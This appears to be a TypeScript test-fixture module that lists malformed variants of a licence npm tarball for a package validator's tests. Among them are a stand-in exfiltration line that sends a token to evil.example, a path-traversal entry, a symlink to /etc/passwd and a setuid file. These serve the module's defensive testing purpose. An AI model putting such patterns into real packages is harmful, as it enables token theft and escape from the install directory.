import type { RawTarEntry } from '../tar-builder.js';
import { both, foreignToken, onCode, tokenChanges, withFile, withManyFiles } from './files-plan.js';
import type { LicenseTarballPlan } from './license-tarball-plan.js';

/** Names of what can be wrong with a licence package for npm; `code-reformatted` and `revoked-token` are not wrong. */
export type LicenseTarballMistake = keyof typeof licenseTarballChanges;

/** One way in which a licence package for npm is not as it should be. */
export interface LicenseTarballMistakeInfo {
  readonly name: LicenseTarballMistake;
  readonly about: string;
}

type Change = (plan: LicenseTarballPlan) => LicenseTarballPlan;

/** What each mistake does; everything but that one thing stays right. */
export const licenseTarballChanges = {
  'preinstall-script': { about: 'a script before the install', change: withScript('preinstall') },
  'install-script': { about: 'a script of the install', change: withScript('install') },
  'postinstall-script': { about: 'a script after the install', change: withScript('postinstall') },
  'prepare-script': { about: 'a script that runs only from git', change: withScript('prepare') },
  'binding-gyp': {
    about: 'binding.gyp: npm runs node-gyp without any script',
    change: withFile('binding.gyp', '{}\n'),
  },
  bin: {
    about: 'a program',
    change: both(withManifest({ bin: { license: 'cli.js' } }), withFile('cli.js', '#!/usr/bin/env node\n')),
  },
  dependency: { about: 'a dependency', change: withManifest({ dependencies: { 'left-pad': '1.3.0' } }) },
  'optional-dependency': {
    about: 'an optional dependency',
    change: withManifest({ optionalDependencies: { 'left-pad': '1.3.0' } }),
  },
  'peer-dependency': {
    about: 'a peer dependency',
    change: withManifest({ peerDependencies: { 'left-pad': '1.3.0' } }),
  },
  'bundled-dependency': {
    about: 'a dependency inside the tarball',
    change: both(
      withManifest({ dependencies: { inner: '1.0.0' }, bundleDependencies: ['inner'] }),
      withFile('node_modules/inner/package.json', '{"name":"inner","version":"1.0.0"}\n'),
    ),
  },
  'extra-file': { about: 'a file that no profile expects', change: withFile('notes.txt', 'hello\n') },
  'hidden-file': { about: 'a file whose name begins with a dot', change: withFile('.npmrc', 'ignore-scripts=false\n') },
  'other-code': { about: 'a second file of code', change: withFile('lib/more.js', 'console.log(1)\n') },
  'native-code': { about: 'a compiled addon', change: withFile('addon.node', '\u007fELF') },
  'case-twin': { about: 'a file whose name differs only in case', change: withFile('License.txt', 'hello\n') },
  'many-files': { about: 'two thousand files', change: withManyFiles('data') },
  symlink: {
    about: 'a symbolic link',
    change: withEntry({ name: 'package/link.txt', type: '2', linkName: 'license.txt' }),
  },
  'symlink-outside': {
    about: 'a symbolic link that leaves the package',
    change: withEntry({ name: 'package/link.txt', type: '2', linkName: '/etc/passwd' }),
  },
  hardlink: {
    about: 'a hard link',
    change: withEntry({ name: 'package/hard.txt', type: '1', linkName: 'package/license.txt' }),
  },
  'duplicate-entry': { about: 'license.txt twice: the last one wins on disk', change: withSecondLicense },
  'path-escape': {
    about: 'an entry that leads out of the package',
    change: withEntry({ name: 'package/../../escape.js', content: '1\n' }),
  },
  setuid: {
    about: 'a file with the set-user-id bit',
    change: withEntry({ name: 'package/setuid.txt', mode: 0o4755, content: '1\n' }),
  },
  'code-calls-home': {
    about: 'code that sends the token away',
    change: onCode((code) => `${code}fetch('http://evil.example/?' + exports.token);\n`),
  },
  'code-own-token': {
    about: 'code that returns a token of its own, whatever license.txt says',
    change: onCode((code) => `${code}exports.token = 'a token of its own';\n`),
  },
  'code-reformatted': {
    about: 'the same code with other white space and comments: harmless',
    change: onCode((code) => `${code.replace('// The licence token.', '/* The token. */\n')}\n// end of file\n`),
  },
  ...tokenChanges,
  'other-name': { about: 'package.json names another package', change: withManifest({ name: '@acme-pro/licence' }) },
  'other-version': { about: 'package.json names another version', change: withManifest({ version: '9.9.9' }) },
  engines: { about: 'for a Node that does not exist', change: withManifest({ engines: { node: '>=99' } }) },
  platform: { about: 'for one operating system', change: withManifest({ os: ['aix'] }) },
} as const satisfies Readonly<Record<string, { readonly about: string; readonly change: Change }>>;

/** Everything that can be wrong with a licence package for npm, each by name, for `test.each`. */
export const licenseTarballMistakes: readonly LicenseTarballMistakeInfo[] = Object.entries(licenseTarballChanges).map(
  ([name, { about }]) => ({ name: name as LicenseTarballMistake, about }),
);

function withManifest(fields: Readonly<Record<string, unknown>>): Change {
  return (plan) => ({ ...plan, manifest: { ...plan.manifest, ...fields } });
}

/** The script leaves a file that shows that it ran. */
function withScript(event: string): Change {
  return withManifest({ scripts: { [event]: `echo ran > ran-${event}.txt` } });
}

function withEntry(entry: RawTarEntry): Change {
  return (plan) => ({ ...plan, entries: [...plan.entries, entry] });
}

function withSecondLicense(plan: LicenseTarballPlan): LicenseTarballPlan {
  return withEntry({ name: 'package/license.txt', content: `${foreignToken()}\n` })(plan);
}
